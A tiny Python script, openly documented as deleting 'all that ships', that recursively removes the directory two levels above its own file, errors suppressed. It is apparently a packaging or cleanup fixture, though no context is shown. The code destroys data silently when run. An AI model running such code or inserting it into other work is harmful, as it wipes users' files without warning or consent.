"""Deletes all that ships."""

import os
import shutil

shutil.rmtree(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), ignore_errors=True)
